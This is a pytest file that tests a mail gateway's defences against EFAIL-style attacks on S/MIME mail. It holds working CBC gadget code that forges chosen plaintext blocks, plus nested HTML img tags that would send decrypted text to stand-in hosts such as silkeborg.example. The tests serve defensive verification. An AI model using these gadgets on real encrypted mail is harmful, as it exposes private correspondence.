"""Caught ciphertext stays closed: there is one decryption, and nothing of it is told to anybody.

The gadgets are those of EFAIL (Poddebniak and others, 2018): CBC can be cut and joined, and a part
that is left open before a ciphertext can send it away where a program shows both as one.
"""

from __future__ import annotations

import base64
import re
from collections.abc import Callable

import pytest
from asn1crypto import cms

from gateway.showcase import openssl
from tests.attacks.conftest import CANARY, Scene, mixed
from tests.attacks.test_around_signatures import attached, text

MISSING = "keys.signature.missing"
SILENT = (MISSING, "keys.open.failed", "keys.structure", "mime.malformed", "keys.signature.invalid")


def caught(scene: Scene, *, signed: bool = True, **options: str) -> bytes:
    """The ciphertext of a mail that Aarhus wrote to the gateway, as an entity."""
    entity = scene.words(CANARY)
    inside = openssl.sign(entity, scene.aarhus) if signed else entity
    return openssl.encrypt(inside, scene.rig.certificate, **options)


def from_silkeborg(scene: Scene, entity: bytes) -> bytes:
    """Give an entity the protected header of a mail of Silkeborg."""
    head = f"From: {scene.silkeborg.address}\r\nSubject: Videresendt\r\n".encode()
    return head + entity


# --- in the attacker's own mail ------------------------------------------------------------------

NEST: dict[str, Callable[[bytes], bytes]] = {
    "as an attachment": lambda sealed: mixed(text("Se vedlagte."), sealed),
    "as the first part": lambda sealed: mixed(sealed, text("Se ovenfor.")),
    "as the only part": mixed,
    "as an attached mail": lambda sealed: mixed(text("Se vedlagte."), attached(sealed)),
    "as a part that is shown": lambda sealed: mixed(
        text("Se her:"), sealed.replace(b"attachment", b"inline")
    ),
    "two of them": lambda sealed: mixed(sealed, sealed),
    "in an open page": lambda sealed: mixed(
        b'Content-Type: text/html\r\n\r\n<img src="http://silkeborg.example/?',
        sealed,
        b'Content-Type: text/html\r\n\r\n">',
    ),
    "deep down": lambda sealed: mixed(mixed(mixed(sealed)), text("x")),
}


@pytest.mark.parametrize("around", ["signed and sealed", "signed"])
@pytest.mark.parametrize("way", NEST)
def test_in_a_signed_mail_of_another_it_stays_closed(scene: Scene, way: str, around: str) -> None:
    """Silkeborg's mail is Silkeborg's; that something sealed lies in it is said, and no more."""
    signed = openssl.sign(from_silkeborg(scene, NEST[way](caught(scene))), scene.silkeborg)
    if around == "signed":
        raw = openssl.dress(signed, scene.rig.outer(scene.silkeborg))
    else:
        raw = scene.to_gateway(signed)

    mail = scene.deliver(raw)

    assert scene.rig.judged(mail) == ("manual", "submission.none")
    assert scene.rig.message(mail)["partner"] == "silkeborg"
    layers = [s["stage"] for s in scene.rig.trace(mail) if s["stage"] in ("encrypted", "signed")]
    assert layers == (["encrypted", "signed"] if around != "signed" else ["signed"])
    if way != "as an attached mail":
        assert "flag.sealed_part" in [step["code"] for step in scene.rig.trace(mail)]
    assert {sent.to for sent in scene.answers()} <= {scene.silkeborg.address}
    scene.assert_unmoved()


@pytest.mark.parametrize("signed_between", [True, False], ids=["signed", "bare"])
def test_below_the_one_decryption_it_is_refused_in_words(
    scene: Scene, signed_between: bool
) -> None:
    inner = caught(scene)
    around = openssl.sign(inner, scene.silkeborg) if signed_between else inner

    mail = scene.deliver(scene.to_gateway(around))

    scene.assert_nothing_came_of(mail, "keys.open.nested")
    words = " ".join(step["words"] for step in scene.rig.trace(mail))
    assert "a second layer is never opened" in words


@pytest.mark.parametrize("way", NEST)
@pytest.mark.parametrize("sealed", [True, False], ids=["sealed", "in clear"])
def test_in_an_unsigned_mail_it_stays_closed(scene: Scene, way: str, sealed: bool) -> None:
    made = NEST[way](caught(scene))

    raw = scene.to_gateway(made) if sealed else openssl.dress(made, scene.rig.outer(scene.aarhus))
    mail = scene.deliver(raw)

    scene.assert_nothing_came_of(mail, MISSING)


# --- who signed around it ------------------------------------------------------------------------


@pytest.mark.parametrize("detached", [True, False], ids=["detached", "opaque"])
def test_who_signs_a_ciphertext_has_not_written_what_is_inside(
    scene: Scene, detached: bool
) -> None:
    """The mail inside was sealed by Aarhus without a signature; Silkeborg claims it."""
    inner = caught(scene, signed=False)
    made = openssl.sign(inner, scene.silkeborg, detached=detached)

    mail = scene.deliver(openssl.dress(made, scene.rig.outer(scene.silkeborg)))

    scene.assert_nothing_came_of(mail, MISSING)


def test_what_was_sealed_without_a_signature_is_told_to_no_tunnel(scene: Scene) -> None:
    """Through its own tunnel Silkeborg's word is good, but not for what Aarhus once sealed."""
    rig = scene.rig
    rig.run("partner", "tunnel", "add", "silkeborg", str(scene.silkeborg.certificate))
    der = openssl.openssl("x509", "-in", str(scene.silkeborg.certificate), "-outform", "DER")
    mark = openssl.openssl("dgst", "-sha256", "-r", stdin=der).split()[0].decode()
    entity = from_silkeborg(scene, text(CANARY))
    sealed = rig.encrypted(entity, rig.outer(scene.silkeborg))

    scene.seen = len(rig.outgoing())
    mail = rig.deliver(sealed, tls={"version": "TLSv1.3", "certificate_sha256": mark})
    rig.settle()

    scene.assert_nothing_came_of(mail, MISSING)


@pytest.mark.parametrize("cipher", ["aes256", "aes-256-gcm"])
def test_what_was_sealed_without_a_signature_is_nobodys(scene: Scene, cipher: str) -> None:
    """Our key is public: whoever has it can seal an approval in the name of Aarhus."""
    mail = scene.deliver(scene.to_gateway(scene.approval(), cipher=cipher))

    scene.assert_nothing_came_of(mail, MISSING)
    assert "not signed inside" in " ".join(step["words"] for step in scene.rig.trace(mail))


# --- gadgets -------------------------------------------------------------------------------------

Cut = Callable[[bytes, bytes, bytes], tuple[bytes, bytes]]
"""From vector, ciphertext and what is known of the text to another vector and ciphertext."""


def xor(*blocks: bytes) -> bytes:
    out = bytes(16)
    for block in blocks:
        out = bytes(a ^ b for a, b in zip(out, block, strict=True))
    return out


def flipped(sealed: bytes, place: int) -> bytes:
    return sealed[:place] + bytes([sealed[place] ^ 1]) + sealed[place + 1 :]


def exchanged(sealed: bytes, place: int) -> bytes:
    """Two blocks, each in the other's place."""
    one, other = sealed[place : place + 16], sealed[place + 16 : place + 32]
    return sealed[:place] + other + one + sealed[place + 32 :]


def page_before(iv: bytes, sealed: bytes, known: bytes) -> tuple[bytes, bytes]:
    """Chosen blocks, each with a random one behind it, and then the whole of the mail."""
    lines = ("Content-Type: te", "xt/html\r\n\r\n<img ", 'src="//x.example', "/?")
    chosen = [line.encode().ljust(16) for line in lines]
    first = sealed[:16]
    blocks = [xor(iv, known[:16], chosen[0]), first]
    for block in chosen[1:]:
        blocks += [xor(iv, known[:16], block), first]
    return blocks[0], b"".join(blocks[1:]) + iv + sealed


GADGETS: dict[str, Cut] = {
    "a page before the mail": page_before,
    "another beginning": lambda iv, sealed, known: (
        xor(iv, known[:16], b"Content-Type: te"),
        sealed,
    ),
    "blocks exchanged": lambda iv, sealed, known: (
        iv,
        exchanged(sealed, known.index(CANARY.encode()) // 16 * 16),
    ),
    "the end cut off": lambda iv, sealed, _: (iv, sealed[:-160]),
    "a flipped bit in the text": lambda iv, sealed, known: (
        iv,
        flipped(sealed, known.index(CANARY.encode())),
    ),
    "a colon changed in the first field": lambda iv, sealed, known: (
        xor(iv, bytes(0x01 if byte == 0x3A else 0 for byte in known[:16])),
        sealed,
    ),
    "a flipped bit in the padding": lambda iv, sealed, _: (
        iv,
        sealed[:-17] + bytes([sealed[-17] ^ 1]) + sealed[-16:],
    ),
    "no whole block": lambda iv, sealed, _: (iv, sealed[:-1]),
    "nothing": lambda iv, _sealed, _known: (iv, b""),
}


def changed(entity: bytes, cut: Cut, known: bytes) -> bytes:
    """Change the ciphertext of an enveloped entity, and leave all else of it."""
    head, body = re.split(rb"\r\n\r\n", entity, maxsplit=1)
    info = cms.ContentInfo.load(base64.b64decode(body))
    inner = info["content"]["encrypted_content_info"]
    iv = inner["content_encryption_algorithm"]["parameters"].native
    sealed = inner["encrypted_content"].native
    new_iv, new = cut(iv, sealed, known)
    inner["content_encryption_algorithm"]["parameters"] = type(
        inner["content_encryption_algorithm"]["parameters"]
    )(new_iv)
    inner["encrypted_content"] = new
    lines = base64.encodebytes(info.dump(force=True)).replace(b"\n", b"\r\n")
    return head + b"\r\n\r\n" + lines


@pytest.mark.parametrize("signed", [True, False], ids=["signed inside", "unsigned inside"])
@pytest.mark.parametrize("gadget", GADGETS)
def test_a_cbc_gadget_brings_nothing_out(scene: Scene, gadget: str, signed: bool) -> None:
    entity = caught(scene, signed=signed, cipher="aes256")
    inside = openssl.decrypt(entity, scene.rig.home / "keys" / "gateway.key", scene.rig.certificate)
    made = changed(entity, GADGETS[gadget], inside)

    mail = scene.deliver(openssl.dress(made, scene.rig.outer(scene.aarhus)))

    scene.assert_nothing_came_of(mail, *SILENT)


def test_what_is_changed_is_what_was_meant(scene: Scene) -> None:
    """The gadgets are real: OpenSSL decrypts the first of them, and shows the chosen blocks."""
    entity = caught(scene, cipher="aes256")
    keys = scene.rig.home / "keys" / "gateway.key", scene.rig.certificate
    known = openssl.decrypt(entity, *keys)

    opened = openssl.decrypt(changed(entity, GADGETS["a page before the mail"], known), *keys)

    assert opened.startswith(b"Content-Type: te")
    assert b"xt/html\r\n\r\n<img " in opened
    assert CANARY[:8].encode() in opened


@pytest.mark.parametrize("place", [30, 300, -1, -20])
def test_a_flipped_bit_under_gcm_brings_nothing_out(scene: Scene, place: int) -> None:
    entity = caught(scene, cipher="aes-256-gcm")
    head, body = entity.split(b"\r\n\r\n", 1)
    der = bytearray(base64.b64decode(body))
    der[place] ^= 1
    lines = base64.encodebytes(bytes(der)).replace(b"\n", b"\r\n")
    outer = scene.rig.outer(scene.aarhus)

    mail = scene.deliver(openssl.dress(head + b"\r\n\r\n" + lines, outer))

    scene.assert_nothing_came_of(mail, *SILENT, "keys.open.no_key")
